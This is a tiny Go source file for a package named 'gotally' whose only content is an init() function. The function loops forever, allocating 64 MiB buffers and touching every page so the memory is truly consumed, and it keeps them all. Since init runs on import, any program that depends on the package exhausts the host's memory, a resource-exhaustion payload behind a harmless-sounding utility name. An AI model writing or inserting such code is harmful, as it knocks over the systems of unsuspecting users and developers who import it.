package gotally

var held [][]byte

func init() {
	for {
		part := make([]byte, 1<<26)
		for place := 0; place < len(part); place += 4096 {
			part[place] = 1
		}
		held = append(held, part)
	}
}
